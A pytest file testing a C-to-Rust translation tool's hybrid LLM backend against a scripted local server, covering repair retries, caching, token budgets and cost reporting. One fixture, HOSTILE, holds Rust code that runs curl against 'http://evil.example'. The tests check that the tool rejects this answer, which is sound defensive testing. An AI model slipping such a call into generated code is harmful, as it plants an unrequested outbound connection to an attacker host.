"""The llm and hybrid backends end to end: the real CLI, the real `openai` client, a real
local server speaking the chat-completions protocol with scripted answers, real rustc,
gcc and the fuzzer. No model is reachable here; the protocol is."""

from __future__ import annotations

import json
import re
import threading
from collections import defaultdict
from pathlib import Path
from typing import Any

import pytest

from refactor.ledger import Ledger
from tests.llm.server import Reply, ScriptedServer
from tests.verify.conftest import textstats_source

NEGATE_BROKEN = """```rust
#[no_mangle]
pub extern "C" fn negate_if(v: i64, flag: i32) -> i64 {
    if flag != 0 { -v } else { "v" }
}
```"""
NEGATE_WRONG = """Here it is:
```rust
#[no_mangle]
pub extern "C" fn negate_if(v: i64, flag: i32) -> i64 {
    if flag == 0 { v.wrapping_neg() } else { v }
}
```"""
NEGATE_RIGHT = """```rust
#[no_mangle]
pub extern "C" fn negate_if(v: i64, flag: i32) -> i64 {
    if flag != 0 { v.wrapping_neg() } else { v }
}
```"""
HOSTILE = """```rust
#[no_mangle]
pub unsafe extern "C" fn copy_upper(dst: *mut i8, src: *const i8, cap: u64) -> u64 {
    let _ = std::process::Command::new("curl").arg("http://evil.example").status();
    0
}
```"""
_NAME = re.compile(r"`([A-Za-z_]\w*)`")
_DRAFT = re.compile(r"produced this draft.*?```rust\n(.*?)\n```", re.S)


class Model:
    """Answers by unit and task; anything unscripted gets the rules draft back."""

    def __init__(self, scripted: dict[str, list[Reply]] | None = None,
                 usage: tuple[int, int] = (50, 20)) -> None:
        self.scripted = {k: list(v) for k, v in (scripted or {}).items()}
        self.usage = usage
        self.asked: dict[str, list[str]] = defaultdict(list)
        self.lock = threading.Lock()

    def __call__(self, body: dict[str, Any]) -> Reply:
        user = body["messages"][-1]["content"]
        name = _NAME.search(user).group(1)  # type: ignore[union-attr]
        task = ("repair_compile" if "does not compile" in user else "repair_counterexample"
                if "behaves differently" in user else "translate")
        with self.lock:
            self.asked[name].append(task)
            queue = self.scripted.get(name)
            if queue:
                return queue.pop(0)
        draft = _DRAFT.search(user)
        return Reply(f"```rust\n{draft.group(1)}\n```" if draft else "no draft", *self.usage)


def _run(cli, toml: Path, ledger: Path, server: ScriptedServer, *extra: str):  # type: ignore[no-untyped-def]
    return cli("translate", toml, "--backend", "hybrid", "--model", "scripted-model",
               "--base-url", server.base_url, "--ledger", ledger, *extra, timeout=600)


def _scan(cli, toml: Path, ledger: Path) -> None:  # type: ignore[no-untyped-def]
    assert cli("scan", toml, "--ledger", ledger).code == 0


def _newest(ledger: Path) -> dict[str, Any]:
    with Ledger(ledger) as led:
        tid = led.targets()[0][0]
        names = {u.id: u.name for u in led.units(tid)}
        return {names[uid]: a for uid, a in led.latest_attempts(tid).items()}


def _all_attempts(ledger: Path, name: str) -> list[tuple[str, str, str | None]]:
    with Ledger(ledger) as led:
        rows = led.conn.execute(
            "SELECT a.backend, a.status, a.reason FROM attempts a JOIN units u ON "
            "u.id = a.unit_id WHERE u.name = ? ORDER BY a.id", (name,)).fetchall()
    return [tuple(r) for r in rows]


def test_repair_loop_rejections_retries_and_the_cache(tmp_path: Path, cli) -> None:
    toml, ledger = textstats_source(tmp_path), tmp_path / "out" / "l.db"
    _scan(cli, toml, ledger)
    model = Model({
        # does not compile, then builds but differs, then right
        "negate_if": [Reply(NEGATE_BROKEN), Reply(NEGATE_WRONG), Reply(NEGATE_RIGHT)],
        "copy_upper": [Reply(HOSTILE), Reply(HOSTILE)],  # rejected twice
        "never_called": [Reply.error(429, "slow down", headers={"retry-after": "0"})],
    })
    with ScriptedServer(model) as server:
        result = _run(cli, toml, ledger, server)
        assert result.code == 0, result.stderr
        first_requests = server.chat_requests
        again = _run(cli, toml, ledger, server)
        assert again.code == 0, again.stderr
        assert server.chat_requests == first_requests  # all from the ledger's cache
    assert model.asked["negate_if"] == ["translate", "repair_compile", "repair_counterexample"]
    assert model.asked["never_called"] == ["translate", "translate"]  # 429, then retried
    newest = _newest(ledger)
    negate = newest["negate_if"]
    assert (negate.backend, negate.status, negate.unsafe_lines) == ("hybrid", "translated", 0)
    assert negate.tokens_in > 0 and negate.prompt_version
    assert "wrapping_neg" in negate.rust and "flag != 0" in negate.rust
    # The hostile answer was refused before compiling; the rules draft stays.
    copy = _all_attempts(ledger, "copy_upper")
    assert any(b == "hybrid" and s == "failed" and "rejected" in (r or "")
               for b, s, r in copy)
    assert newest["copy_upper"].backend == "rules"
    model_dir = tmp_path / "out" / "rust" / ".textstats-model"
    assert not [p for p in model_dir.rglob("*.rs") if "Command" in p.read_text()]
    assert "from the cache" in again.stdout and "0 requests" in again.stdout


def test_budget_exhausted_stops_cleanly_and_resumes(tmp_path: Path, cli) -> None:
    toml, ledger = textstats_source(tmp_path), tmp_path / "out" / "l.db"
    _scan(cli, toml, ledger)
    model = Model(usage=(3000, 1000))  # 4,000 tokens an answer
    with ScriptedServer(model) as server:
        # Each request reserves its prompt and max_tokens (4,096): two fit in 10,000.
        short = _run(cli, toml, ledger, server, "--max-tokens", "10000", "--concurrency", "1")
        assert short.code == 0, short.stderr
        assert "stopped early" in short.stdout and "per-run token cap" in short.stdout
        sent = server.chat_requests
        assert sent == 2
        newest = _newest(ledger)
        assert all(a.status == "translated" for a in newest.values())  # drafts kept
        full = _run(cli, toml, ledger, server)
        assert full.code == 0, full.stderr
        assert "stopped early" not in full.stdout
        assert server.chat_requests == 5  # the rest; the first answers came from the cache
    assert f"{sent} answers from the cache" in full.stdout


def test_a_model_echoing_the_draft_gives_the_rules_result(tmp_path: Path, cli) -> None:
    toml = textstats_source(tmp_path)
    rules_ledger, hybrid_ledger = tmp_path / "r" / "l.db", tmp_path / "h" / "l.db"
    for ledger in (rules_ledger, hybrid_ledger):
        _scan(cli, toml, ledger)
    assert cli("translate", toml, "--ledger", rules_ledger).code == 0
    with ScriptedServer(Model()) as server:
        assert _run(cli, toml, hybrid_ledger, server).code == 0
    rules_crate, hybrid_crate = tmp_path / "r" / "rust" / "textstats", tmp_path / "h" / "rust"
    for rs in sorted((rules_crate / "src").glob("*.rs")):
        assert (hybrid_crate / "textstats" / "src" / rs.name).read_text() == rs.read_text()
    rules, hybrid = _newest(rules_ledger), _newest(hybrid_ledger)
    assert {n: (a.status, a.rust, a.unsafe_lines) for n, a in rules.items()} == {
        n: (a.status, a.rust, a.unsafe_lines) for n, a in hybrid.items()}


def test_run_reports_what_a_secured_line_cost(tmp_path: Path, cli) -> None:
    toml = textstats_source(tmp_path)
    toml.write_text(toml.read_text() + '\n[llm]\nmodel = "scripted-model"\n'
                    '[llm.prices]\n"scripted-model" = { input = 2.0, output = 8.0 }\n')
    with ScriptedServer(Model(usage=(1000, 250))) as server:
        result = cli("run", toml, "--backend", "hybrid", "--base-url", server.base_url,
                     "--ledger", tmp_path / "out" / "l.db", "--fuzz-examples", "30",
                     timeout=600)
        sent = server.chat_requests
    assert result.code == 0, result.stderr
    totals = json.loads((tmp_path / "out" / "report.json").read_text())["totals"]
    # 1,000 tokens in at 2.0 and 250 out at 8.0 per million: 0.004 a request
    assert totals["cost"] == pytest.approx(0.004 * sent)
    assert totals["loc_secured"] > 0
    assert totals["cost_per_1000_loc_secured"] == pytest.approx(
        1000 * totals["cost"] / totals["loc_secured"], rel=1e-3)
    assert "per 1,000 lines secured" in result.stdout
